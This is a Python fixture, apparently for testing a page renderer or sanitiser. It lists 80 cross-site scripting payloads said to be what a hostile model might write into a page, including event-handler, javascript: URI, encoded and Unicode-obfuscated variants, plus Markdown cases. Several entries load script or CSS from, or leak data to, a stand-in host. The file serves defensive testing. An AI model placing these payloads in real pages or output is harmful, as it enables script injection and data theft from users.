"""What a hostile model might write into a page: 80 texts, with what a reader should see where Markdown differs."""

from __future__ import annotations

TAGS = [
    "<script>{}</script>", "<ScRiPt>{}</sCrIpT>", "<script\t>{}</script\t>", "<script src=//evil.test/x.js></script>",
    "<img src=x onerror={}>", "<img src=\"x\" onerror=\"{}\">", "<img/src=x/onerror={}>", "<IMG SRC=x ONERROR={}>",
    "<svg onload={}>", "<svg/onload={}>", "<svg><script>{}</script></svg>", "<svg><animate onbegin={} attributeName=x>",
    "<body onload={}>", "<body onpageshow={}>", "<iframe src=\"javascript:{}\"></iframe>", "<iframe srcdoc=\"<b>{}\">",
    "<iframe onload={}></iframe>", "<object data=\"javascript:{}\"></object>", "<embed src=\"javascript:{}\">",
    "<details open ontoggle={}>", "<video><source onerror={}></video>", "<video src=x onerror={}></video>",
    "<audio src=x onerror={}></audio>", "<input autofocus onfocus={}>", "<select autofocus onfocus={}></select>",
    "<textarea autofocus onfocus={}></textarea>", "<button autofocus onfocus={}>x</button>",
    "<form action=\"javascript:{}\"><button>x</button></form>", "<form><button formaction=\"javascript:{}\">x</button></form>",
    "<a href=\"javascript:{}\">x</a>", "<a href=\"data:text/html,<script>{}</script>\">x</a>", "<a ping=//evil.test/ href=/>x</a>",
    "<math><mtext><script>{}</script></mtext></math>", "<math href=\"javascript:{}\">x</math>",
    "<style>@import '//evil.test/x.css';</style>", "<link rel=stylesheet href=//evil.test/x.css>",
    "<link rel=prefetch href=//evil.test/x>", "<link rel=dns-prefetch href=//evil.test>", "<base href=//evil.test/>",
    "<meta http-equiv=refresh content=\"0;url=//evil.test/\">", "<div style=\"background:url(//evil.test/x)\">x</div>",
    "<template><script>{}</script></template>", "<noscript><p title=\"</noscript><img src=x onerror={}>\">",
    "<title></title><script>{}</script>", "<textarea></textarea><script>{}</script>", "<plaintext>{}",
    "<xss id=x tabindex=1 onfocus={}></xss>", "<marquee onstart={}>x</marquee>", "<p onclick={}>x</p>",
    "\"><script>{}</script>", "'><img src=x onerror={}>", "</textarea><script>{}</script>", "</title><svg onload={}>",
    "--><script>{}</script>", "]]><script>{}</script>", "\"onmouseover=\"{}\" x=\"", "';{};//", "\";{};//",
    "</script><script>{}</script>", "${{{}}}", "{{{{constructor.constructor('{}')()}}}}", "javascript:{}",
    "&lt;script&gt;{}&lt;/script&gt;", "&#60;script&#62;{}", "\\u003cscript\\u003e{}", "%3Cscript%3E{}%3C/script%3E",
    "\u202e<script>{}</script>", "\ufeff<img src=x onerror={}>", "\uff1cscript\uff1e{}", "🦊<svg onload={}>é",
]  # fmt: skip
CODE = "alert(1)"
MARKDOWN = [  # (text, what is seen)
    ("[x](javascript:alert(1))", "[x](javascript:alert(1))"),
    ("[x](JaVaScRiPt:alert(1))", "[x](JaVaScRiPt:alert(1))"),
    ("[x](data:text/html;base64,PHNjcmlwdD4=)", "[x](data:text/html;base64,PHNjcmlwdD4=)"),
    ("[x](vbscript:alert(1))", "[x](vbscript:alert(1))"),
    ("![x](https://evil.test/leak.png)", "x"),
    ("![](https://evil.test/leak.png?q=1)", "https://evil.test/leak.png?q=1"),
    ('[a](https://evil.test/"onmouseover="alert(1))', "a"),
    ("**<img src=x onerror=alert(1)>**", "<img src=x onerror=alert(1)>"),
    ("`<script>alert(1)</script>`", "<script>alert(1)</script>"),
    ("| <svg onload=alert(1)> |\n|---|\n| <b>x</b> |", "<svg onload=alert(1)><b>x</b>"),
]
PAYLOADS = [(text := tag.format(CODE), text) for tag in TAGS] + MARKDOWN
assert len(PAYLOADS) == 80 and len({text for text, _ in PAYLOADS}) == 80
